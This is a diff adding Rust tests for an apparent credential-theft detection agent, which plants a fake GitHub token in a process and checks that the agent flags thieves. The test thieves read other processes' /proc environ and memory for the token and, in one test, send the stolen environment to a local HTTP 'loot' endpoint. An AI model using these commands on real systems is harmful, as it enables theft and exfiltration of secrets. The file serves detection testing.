@@ -1,0 +1,153 @@
+//! What is read out of other processes.
+
+use crate::{
+    agent::Agent,
+    command::{act, sh},
+    events::{Ask as _, Event, list, of_kind},
+    machine::{Scratch, turn},
+    plant,
+};
+
+fn holder(token: &str) -> crate::command::Background {
+    sh("while read line; do :; done")
+        .env("GITHUB_TOKEN", token)
+        .spawn_listening()
+}
+
+fn taken(agent: &Agent, root: u32) -> Vec<Event> {
+    of_kind(&agent.tree(root), "credential_taken")
+}
+
+/// Who reads a holder's environment block has taken what is in it: observed, with the holder's name.
+pub fn out_of_an_environment() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let agent = Agent::start(&scratch);
+    let token = plant::github();
+    let holder = holder(&token.value);
+    let held = agent.expect("the exposure", holder.pid(), |e| {
+        e.is("credential_exposed") && e.pid() == holder.pid()
+    });
+    let thief = sh("cat /proc/$1/environ >/dev/null; :")
+        .arg(holder.pid().to_string())
+        .run()
+        .ok();
+    let event = agent.expect("the theft", thief.pid, |e| {
+        e.is("credential_taken") && e.in_tree(thief.pid)
+    });
+    assert_eq!(event.fingerprint(), held.fingerprint(), "{}", event.brief());
+    assert_eq!(event.grade(), "observed", "{}", event.brief());
+    assert!(event.executable().ends_with("/cat"), "{}", event.brief());
+    assert_eq!(event.victim.as_ref().unwrap().pid, holder.pid());
+    assert_eq!(event.env_name(), "GITHUB_TOKEN", "{}", event.brief());
+    agent.settle();
+    assert_eq!(taken(&agent, thief.pid).len(), 1, "once");
+}
+
+/// Of memory it is not known what of it was read: lineage.
+pub fn out_of_memory() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let agent = Agent::start(&scratch);
+    let token = plant::github();
+    let holder = holder(&token.value);
+    agent.expect("the exposure", holder.pid(), |e| {
+        e.is("credential_exposed") && e.pid() == holder.pid()
+    });
+    let script = "import re, sys
+pid = sys.argv[1]
+for line in open(f'/proc/{pid}/maps'):
+    start, end, rights = re.match('([0-9a-f]+)-([0-9a-f]+) (....)', line).groups()
+    if rights[0] == 'r' and '[stack]' in line:
+        with open(f'/proc/{pid}/mem', 'rb', 0) as memory:
+            memory.seek(int(start, 16))
+            print(b'GITHUB_TOKEN' in memory.read(int(end, 16) - int(start, 16)))";
+    let thief = act("python3")
+        .args(["-c", script])
+        .arg(holder.pid().to_string())
+        .run()
+        .ok();
+    assert_eq!(thief.stdout_text().trim(), "True");
+    let event = agent.expect("the theft", thief.pid, |e| {
+        e.is("credential_taken") && e.in_tree(thief.pid)
+    });
+    assert_eq!(event.grade(), "lineage", "{}", event.brief());
+    assert_eq!(event.victim.as_ref().unwrap().pid, holder.pid());
+}
+
+/// Looking at a process is not taking from it (`ps aux` of procps 4 does read environments), and who holds nothing has nothing taken.
+pub fn looking_is_not_taking() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let agent = Agent::start(&scratch);
+    let token = plant::github();
+    let holder = holder(&token.value);
+    agent.expect("the exposure", holder.pid(), |e| {
+        e.is("credential_exposed") && e.pid() == holder.pid()
+    });
+    let poor = sh("while read line; do :; done").spawn_listening();
+    let done = sh(
+        "cat /proc/$1/stat /proc/$1/status /proc/$1/cmdline /proc/$1/maps >/dev/null; ls -l /proc/$1 >/dev/null;
+         exec 3</proc/$1/environ; exec 3<&-; cat /proc/$2/environ >/dev/null; ps -eo pid,comm >/dev/null; :",
+    )
+    .arg(holder.pid().to_string())
+    .arg(poor.pid().to_string())
+    .run()
+    .ok();
+    agent.settle();
+    let taken = taken(&agent, done.pid);
+    assert!(taken.is_empty(), "{}", list(&taken));
+}
+
+/// A container has a procfs of its own, with numbers of its own.
+pub fn inside_a_pid_namespace() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let agent = Agent::start(&scratch);
+    let token = plant::github();
+    let done = act("unshare")
+        .args(["--pid", "--fork", "--mount-proc", "sh", "-c"])
+        .arg(
+            "GITHUB_TOKEN=$0 sleep 30 & victim=$!; sleep 1; cat /proc/$victim/environ >/dev/null; sleep 1; kill $victim; :",
+        )
+        .arg(&token.value)
+        .limit(30)
+        .run();
+    let event = agent.expect("the theft", done.pid, |e| {
+        e.is("credential_taken") && e.in_tree(done.pid) && e.executable().ends_with("/cat")
+    });
+    let victim = event.victim.as_ref().unwrap();
+    assert!(
+        victim.executable.as_ref().unwrap().path.ends_with("/sleep"),
+        "{}",
+        event.brief()
+    );
+    assert_eq!(event.grade(), "observed", "{}", event.brief());
+}
+
+/// What was taken is followed: the thief's send names the credential and out of whom it came.
+pub fn and_sent() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let sink = crate::server::Sink::http();
+    let agent = Agent::start(&scratch);
+    let token = plant::github();
+    let holder = holder(&token.value);
+    agent.expect("the exposure", holder.pid(), |e| {
+        e.is("credential_exposed") && e.pid() == holder.pid()
+    });
+    let script = "import sys, time, urllib.request
+loot = open(f'/proc/{sys.argv[1]}/environ', 'rb').read()
+time.sleep(0.5)
+urllib.request.urlopen(sys.argv[2], loot)";
+    let thief = act("python3")
+        .args(["-c", script])
+        .arg(holder.pid().to_string())
+        .arg(format!("http://127.0.0.1:{}/loot", sink.port))
+        .run()
+        .ok();
+    let event = agent.expect("the send", thief.pid, |e| {
+        e.is("credential_sent") && e.in_tree(thief.pid)
+    });
+    assert_eq!(event.grade(), "observed", "{}", event.brief());
+}
